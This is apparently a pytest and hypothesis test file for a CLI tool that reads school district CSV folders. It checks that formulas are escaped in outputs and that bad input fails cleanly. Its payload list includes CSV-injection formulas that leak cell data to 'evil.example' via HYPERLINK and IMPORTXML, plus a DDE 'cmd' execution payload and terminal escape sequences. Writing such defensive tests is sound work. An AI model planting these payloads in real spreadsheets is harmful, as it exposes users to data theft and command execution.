"""The command line on adversarial district folders: exit 0 with a file, or exit 2 with a
clear message and no file; never a traceback; and a spreadsheet formula typed into a cell
never reaches the start of a cell in an output CSV.

Most examples call `pushin_rules.__main__.main` in-process (fast); a few run the real
`python -m pushin_rules` in a subprocess.
"""

from __future__ import annotations

import contextlib
import copy
import csv
import io
import os
import re
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from test_fuzz_loader import BASE, adversarial_files, base_files, to_text

from pushin_rules.__main__ import main
from pushin_rules.data.csvsafe import FORMULA_PREFIXES

ROOT = Path(__file__).resolve().parent.parent
EXAMPLES = int(os.environ.get("PUSHIN_FUZZ_EXAMPLES", "30"))
CLI_FUZZ = settings(
    max_examples=max(4, EXAMPLES // 3),
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
COMMANDS = ("recommend", "progress")
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\x9b]")  # a terminal would act on these

FORMULAS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
]


def write_folder(folder: Path, files: dict[str, bytes]) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in files.items():
        (folder / name).write_bytes(data)


def run_main(args: list[str]) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(args)
    return code, out.getvalue(), err.getvalue()


def check_failure(code: int, stderr: str, target: Path) -> None:
    assert code == 2
    assert stderr.strip(), "a failure must say what is wrong"
    assert "Traceback" not in stderr
    assert not CONTROL.search(stderr), f"control characters reach the terminal: {stderr!r}"
    assert not target.exists(), "a failed run must not leave an output file"
    leftovers = [p.name for p in target.parent.iterdir()] if target.parent.exists() else []
    assert leftovers == [], f"temporary files left behind: {leftovers}"


def output_cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return cell == cell.strip()


def check_formula_safe(rows: list[list[str]], payloads: list[str] = ()) -> None:
    assert rows, "an output file has at least a header"
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_PREFIXES):
                assert _number(cell), f"a spreadsheet would run {cell!r}"
    cells = {cell for row in rows for cell in row}
    for payload in payloads:
        assert payload.strip() not in cells, f"{payload!r} is written unescaped"


@CLI_FUZZ
@given(adversarial_files(), st.sampled_from(COMMANDS))
def test_adversarial_folders_exit_0_with_a_file_or_2_with_a_message(
    files: dict[str, bytes], command: str
) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        folder, target = Path(tmp) / "district", Path(tmp) / "out" / "result.csv"
        write_folder(folder, files)
        code, _, stderr = run_main([command, "--data", str(folder), "--out", str(target)])
        if code == 0:
            assert target.stat().st_size > 0
            check_formula_safe(output_cells(target))
        else:
            check_failure(code, stderr, target)


def formula_district(payload: str, draw_cells: list[tuple[str, int, int]]) -> dict[str, bytes]:
    """The base district with `payload` typed into the chosen text cells, and the ids S1,
    SV1, G1 and P1 renamed to formulas everywhere they appear."""
    tables = copy.deepcopy(BASE)
    renames = {"S1": "=S1()", "SV1": "+SV1", "G1": "@G1", "P1": "-P1"}
    for table in tables.values():
        for row in table[1:]:
            for index, cell in enumerate(row):
                row[index] = renames.get(cell, cell)
    for name, row, col in draw_cells:
        tables[name][row][col] = payload
    return {
        name: to_text(table, csv.QUOTE_MINIMAL, "\n").encode() for name, table in tables.items()
    }


TEXT_CELLS = [
    (name, row, col)
    for name, table in BASE.items()
    for col, header in enumerate(table[0])
    if header in ("name", "description", "measure", "classroom", "case_manager")
    for row in range(1, len(table))
]


@settings(CLI_FUZZ, max_examples=max(3, EXAMPLES // 5))
@given(
    st.sampled_from(FORMULAS),
    st.lists(st.sampled_from(TEXT_CELLS), min_size=1, max_size=6, unique=True),
)
def test_formulas_in_student_text_are_escaped_in_every_output(
    payload: str, cells: list[tuple[str, int, int]]
) -> None:
    files = formula_district(payload, cells)
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp) / "district"
        write_folder(folder, files)
        for command in COMMANDS:
            target = Path(tmp) / f"{command}.csv"
            code, _, stderr = run_main([command, "--data", str(folder), "--out", str(target)])
            assert code == 0, stderr
            check_formula_safe(output_cells(target), [payload, "=S1()", "+SV1", "@G1", "-P1"])


def test_the_formula_ids_reach_the_outputs_escaped(tmp_path: Path) -> None:
    """The renamed ids are really in the outputs, written with the quote prefix."""
    write_folder(tmp_path / "d", formula_district("=1+2", [("goals.csv", 1, 3)]))
    for command, expected in (("recommend", "'=S1()"), ("progress", "'@G1")):
        target = tmp_path / f"{command}.csv"
        code, _, stderr = run_main([command, "--data", str(tmp_path / "d"), "--out", str(target)])
        assert code == 0, stderr
        cells = {cell for row in output_cells(target) for cell in row}
        assert expected in cells
    assert "'=1+2" in {c for row in output_cells(tmp_path / "progress.csv") for c in row}


@pytest.mark.parametrize("command", COMMANDS)
def test_header_names_with_terminal_escapes_are_shown_harmlessly(
    command: str, tmp_path: Path
) -> None:
    files = base_files()
    files["students.csv"] = (
        b"student_id,name,\x1b[2J\x1b]0;owned\x07,\x1b[2J\x1b]0;owned\x07,grade,school_id\n"
        b"S1,Ana,x,y,3,A\n"
    )
    write_folder(tmp_path / "d", files)
    target = tmp_path / "out" / "r.csv"
    code, _, stderr = run_main([command, "--data", str(tmp_path / "d"), "--out", str(target)])
    check_failure(code, stderr, target)
    assert "appears twice" in stderr


@pytest.mark.parametrize(
    "command",
    [
        "recommend",
        "progress",
    ],
)
def test_an_output_path_that_is_a_folder_is_a_clear_error(command: str, tmp_path: Path) -> None:
    target = tmp_path / "out"
    target.mkdir()
    code, _, stderr = run_main([command, "--data", str(ROOT / "sample_data"), "--out", str(target)])
    assert code == 2 and "cannot write" in stderr and "Traceback" not in stderr
    assert list(target.iterdir()) == [] and sorted(p.name for p in tmp_path.iterdir()) == ["out"]


# ------------------------------------------------------------------ the real command line


def cli(args: list[str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "pushin_rules", *args],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )


def test_real_command_line_refuses_an_attack_file_and_writes_nothing(tmp_path: Path) -> None:
    files = base_files()
    files["students.csv"] = (
        b"student_id,name,grade,school_id\n"
        b'S1,"=HYPERLINK(""http://evil.example"",""x"")",3,A\n'
        b"S1,<script>alert(1)</script>,99999999999999999999,A\n"
        b'S2,"Ben\nOde",K,ZZ\n'
    )
    files["goals.csv"] = b"\xff\xfe" + "goal_id\n".encode("utf-16-le")
    write_folder(tmp_path / "d", files)
    target = tmp_path / "out" / "r.csv"
    run = cli(["recommend", "--data", str(tmp_path / "d"), "--out", str(target)])
    assert run.returncode == 2, run.stderr
    check_failure(run.returncode, run.stderr, target)
    for words in ("students.csv, row 3, column student_id", "row 3, column grade", "goals.csv"):
        assert words in run.stderr
    assert run.stdout == ""


def test_real_command_line_escapes_formulas(tmp_path: Path) -> None:
    write_folder(
        tmp_path / "d",
        formula_district(
            '=HYPERLINK("http://evil.example","x")',
            [
                ("goals.csv", 1, 3),
                ("goals.csv", 2, 3),
            ],
        ),
    )
    target = tmp_path / "p.csv"
    run = cli(["progress", "--data", str(tmp_path / "d"), "--out", str(target)])
    assert run.returncode == 0, run.stderr
    check_formula_safe(output_cells(target), ['=HYPERLINK("http://evil.example","x")', "@G1"])
